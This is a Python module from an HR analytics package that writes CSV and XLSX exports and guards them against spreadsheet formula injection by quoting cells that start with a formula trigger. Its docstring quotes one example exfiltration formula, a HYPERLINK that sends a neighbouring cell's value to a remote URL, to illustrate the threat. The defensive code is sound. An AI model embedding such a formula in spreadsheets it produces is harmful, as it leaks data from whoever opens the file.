"""The low-level CSV/XLSX writers behind :mod:`workforce.export` (which re-exports them: import them from there),
and the formula-injection guard they share.

Every CSV or XLSX leaves through :func:`write_csv` / :func:`write_xlsx` (or their ``*_bytes`` twins), which
neutralise formula injection: a label read from an HR extract (a direction, a métier) that starts with ``=``,
``+``, ``-`` or ``@`` would otherwise run as a formula in the spreadsheet of whoever opens the file
(``=HYPERLINK("http://…?leak="&B2,"DRH")`` sends a neighbouring cell to a remote site). See :func:`neutralise`;
``tests/test_export_sanitise.py`` fails when a module other than these two writes a spreadsheet file.
"""

from __future__ import annotations

import io
import re
from pathlib import Path
from typing import IO

import numpy as np
import pandas as pd

from workforce.privacy import FORMULA_TRIGGERS

# ------------------------------------------------------------------------------------------ formula injection

# FORMULA_TRIGGERS (privacy): the first characters a spreadsheet reads as a formula

QUOTE = "'"
_SHEET_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")


def neutralise(value):
    """``value`` with a ``'`` in front when it is a text starting with a formula trigger (the mitigation OWASP
    and spreadsheets themselves use: the cell is read as text); numbers, NaN, dates and other texts unchanged."""
    if isinstance(value, str) and value[:1] in FORMULA_TRIGGERS:
        return QUOTE + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are neutralised; numeric, boolean and date
    columns are kept as they are (a negative number stays a number)."""
    out = frame.copy()
    for i in range(out.shape[1]):
        col = out.iloc[:, i]
        if not (pd.api.types.is_object_dtype(col) or pd.api.types.is_string_dtype(col)
                or isinstance(col.dtype, pd.CategoricalDtype)):
            continue
        values = col.astype(object).to_numpy()
        if any(isinstance(v, str) and v[:1] in FORMULA_TRIGGERS for v in values):
            out.isetitem(i, pd.Series([neutralise(v) for v in values], index=out.index, dtype=object))
    out.columns = [neutralise(str(c)) for c in out.columns]
    return out


def sheet_title(name: str, taken: set[str] | frozenset = frozenset()) -> str:
    """An Excel sheet name from ``name``: no ``[]:*?/\\``, no leading or trailing ``'`` (Excel refuses them, so a
    formula trigger in front gets ``_``, not ``'``), at most 31 characters, unique among ``taken``."""
    title = _SHEET_FORBIDDEN.sub("_", str(name)).strip("'") or "Feuille"
    if title[0] in FORMULA_TRIGGERS:
        title = "_" + title
    base, n = title[:31], 1
    title = base
    while title.lower() in {t.lower() for t in taken}:
        n += 1
        title = f"{base[:31 - len(str(n)) - 1]}_{n}"
    return title


def write_csv(frame: pd.DataFrame, target: str | Path | IO[str], *, sep: str = ";", decimal: str = ",",
              encoding: str = "utf-8-sig") -> None:
    """Write ``frame`` (no index) as CSV to a path or a text buffer, text cells and headers neutralised.

    The defaults are the French spreadsheet layout (``;``, decimal comma, UTF-8 with BOM)."""
    if isinstance(target, (str, Path)):
        Path(target).parent.mkdir(parents=True, exist_ok=True)
    neutralise_frame(frame).to_csv(target, sep=sep, decimal=decimal, index=False, encoding=encoding)


def csv_bytes(frame: pd.DataFrame, *, sep: str = ";", decimal: str = ",") -> bytes:
    """:func:`write_csv` as bytes (UTF-8 with BOM), for a download button."""
    buf = io.StringIO()
    write_csv(frame, buf, sep=sep, decimal=decimal)
    return ("\ufeff" + buf.getvalue()).encode("utf-8")


def _cell(value):
    """A frame value as openpyxl takes it: NA/NaT -> empty, numpy scalars -> Python numbers."""
    if value is None or (not isinstance(value, (str, bytes)) and pd.api.types.is_scalar(value) and pd.isna(value)):
        return None
    if isinstance(value, np.generic):
        return value.item()
    return value


def write_xlsx(sheets: dict[str, pd.DataFrame], target: str | Path | IO[bytes], *,
               number_formats: dict[str, dict[str, str]] | None = None) -> None:
    """Write one sheet per frame to a path (atomically, through ``<name>.part``) or a binary buffer.

    Streamed (write-only) workbook, a frozen header row and columns sized to their content. Every text cell,
    header included, is neutralised and written with openpyxl's string type, never as a formula (openpyxl
    would otherwise turn any text starting with ``=`` into a formula). ``number_formats``: ``{sheet: {column:
    Excel format}}`` (``"#,##0"``: thousands shown in the reader's locale) for the numbers of those columns."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.utils import get_column_letter

    def text_cell(ws, text: str):
        cell = WriteOnlyCell(ws, value=neutralise(text))
        cell.data_type = "s"  # also keeps a label such as « #N/A » a text, not an error value
        return cell

    def number_cell(ws, value, fmt: str):
        cell = WriteOnlyCell(ws, value=_cell(value))
        if cell.value is not None:
            cell.number_format = fmt
        return cell

    wb = Workbook(write_only=True)
    taken: set[str] = set()
    for name, frame in sheets.items():
        title = sheet_title(name, taken)
        taken.add(title)
        ws = wb.create_sheet(title=title)
        ws.freeze_panes = "A2"
        for i, col in enumerate(frame.columns, start=1):
            width = max([len(str(col))] + [len(str(v)) for v in frame.iloc[:200, i - 1]])
            ws.column_dimensions[get_column_letter(i)].width = min(max(10, width + 2), 80)
        ws.append([text_cell(ws, str(c)) for c in frame.columns])
        columns = [frame.iloc[:, i].astype(object).to_numpy() for i in range(frame.shape[1])]
        formats = [(number_formats or {}).get(name, {}).get(str(c)) for c in frame.columns]
        for row in zip(*columns):
            ws.append([text_cell(ws, v) if isinstance(v, str) else number_cell(ws, v, f) if f else _cell(v)
                       for v, f in zip(row, formats)])
    if not isinstance(target, (str, Path)):
        wb.save(target)
        return
    path = Path(target)
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(path.name + ".part")
    try:
        wb.save(tmp)
        tmp.replace(path)
    finally:
        tmp.unlink(missing_ok=True)


def xlsx_bytes(sheets: dict[str, pd.DataFrame], *, number_formats: dict[str, dict[str, str]] | None = None) -> bytes:
    """:func:`write_xlsx` as bytes, for a download button."""
    buf = io.BytesIO()
    write_xlsx(sheets, buf, number_formats=number_formats)
    return buf.getvalue()
